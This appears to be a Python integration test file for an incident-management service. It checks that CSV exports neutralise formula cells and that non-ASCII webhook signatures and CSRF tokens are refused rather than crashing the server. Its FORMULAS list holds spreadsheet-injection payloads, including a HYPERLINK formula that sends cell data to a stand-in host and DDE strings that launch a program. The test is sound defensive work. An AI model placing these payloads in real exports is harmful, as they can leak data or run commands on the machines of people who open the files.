"""What an alert's sender chooses, or a forged header carries, stays inert: CSV exports open
in a spreadsheet without running formulas, and signatures or CSRF tokens made of non-ASCII
characters are refused, never answered with a 500."""

from __future__ import annotations

import csv
import io
import json
import time

import pytest

from imas_ingest import credentials
from imas_testing.dashboard import sign_in
from tests.conftest import Mesh

pytestmark = pytest.mark.integration

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Runbook")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


async def _incidents(mesh: Mesh, titles: list[str]) -> None:
    for n, title in enumerate(titles):
        created = await mesh.client.post(
            "/api/v1/incidents/",
            headers=mesh.auth,
            json={
                "title": title,
                "service_name": "redis-prod",
                "severity": "SEV3_MEDIUM",
                "dedup_key": f"formula-{n}",
            },
        )
        assert created.status_code in (200, 201), created.text


async def _sign_in(mesh: Mesh, username: str) -> None:
    """A dashboard session for a new viewer, in ``mesh.client``'s cookies."""
    password = "a long enough password"
    user = {"username": username, "password": password, "role": "viewer"}
    created = await mesh.client.post("/api/v1/users/", headers=mesh.auth, json=user)
    assert created.status_code == 201, created.text
    signed_in = await sign_in(mesh.client, username, password)
    assert signed_in.status_code == 303, signed_in.text


async def test_csv_exports_neutralise_formula_cells(mesh: Mesh) -> None:
    await _incidents(mesh, FORMULAS)
    exported = await mesh.client.get("/api/v1/metrics/export.csv?window=7d", headers=mesh.auth)
    assert exported.status_code == 200
    await _sign_in(mesh, "csv-reader")
    dashboard = await mesh.client.get("/incidents.csv")
    assert dashboard.status_code == 200, dashboard.text
    for text, column in ((exported.text, 2), (dashboard.text, 1)):
        rows = list(csv.reader(io.StringIO(text)))[1:]
        titles = {row[column] for row in rows}
        for formula in FORMULAS:
            assert {"'" + formula, "'" + formula.strip()} & titles, (formula, titles)
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
    # Numbers and dates stay numbers and dates.
    first = next(csv.DictReader(io.StringIO(exported.text)))
    assert first["alert_count"].isdigit() and first["created_at"][:2] == "20"


async def test_non_ascii_webhook_signatures_are_refused_not_crashed(mesh: Mesh) -> None:
    body = json.dumps({"title": "signed"}).encode()
    for kind, header in (("custom", "X-IMAS-Signature"), ("sentry", "Sentry-Hook-Signature")):
        created = await mesh.client.post(
            "/api/v1/integrations/",
            headers=mesh.auth,
            json={"name": f"{kind}-signed", "type": kind, "service": "redis-prod"},
        )
        assert created.status_code == 201, created.text
        integration = created.json()
        genuine = credentials.sign_custom(integration["secret"], body, int(time.time()))
        forged = {
            "custom": genuine[:-4] + "ééé€",
            "sentry": "€" * 64,
        }[kind]
        answer = await mesh.client.post(
            f"/api/v1/webhooks/{kind}/?integration={integration['id']}",
            content=body,
            headers={
                header: forged.encode(),
                "Sentry-Hook-Timestamp": str(int(time.time())),
                "Content-Type": "application/json",
            },
        )
        assert answer.status_code == 401, answer.text


async def test_non_ascii_csrf_tokens_are_refused_not_crashed(mesh: Mesh) -> None:
    login = await mesh.client.get("/login")
    assert login.status_code == 200
    refused = await mesh.client.post(
        "/login",
        content=b"username=admin&password=x&csrf_token=%C3%A9t%C3%A9",
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert refused.status_code == 403, refused.text
